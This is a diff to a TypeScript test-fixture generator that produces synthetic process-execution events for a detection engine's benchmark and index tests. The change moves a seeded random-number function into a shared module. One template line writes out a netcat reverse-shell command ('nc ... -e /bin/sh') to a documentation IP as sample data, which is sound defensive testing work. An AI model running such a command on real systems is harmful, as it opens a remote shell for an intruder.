@@ -4,6 +4,7 @@
  * reverse shell or a download piped to a shell. Used by the engine benchmark and the index tests.
  */
 import { execEvent, type ExecEventSpec, type ProcessSpec } from './exec-event.js';
+import { random } from '../../support/random.js';
 
 interface Template {
   weight: number;
@@ -50,17 +51,6 @@ const TEMPLATES: Template[] = [
   { weight: 1, parent: SHELL, child: { name: 'nc', args: ['nc', '203.0.113.9', '4444', '-e', '/bin/sh'] } },
 ];
 
-/** A small, fast, seedable PRNG (mulberry32), so every run sees the same stream. */
-export function random(seed: number): () => number {
-  let a = seed >>> 0;
-  return () => {
-    a = (a + 0x6d2b79f5) >>> 0;
-    let t = a;
-    t = Math.imul(t ^ (t >>> 15), t | 1);
-    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
-    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
-  };
-}
 
 /** `count` events: mostly exec, with the fork before and the end after some of them. */
 export function execMix(count: number, seed = 1): Record<string, unknown>[] {
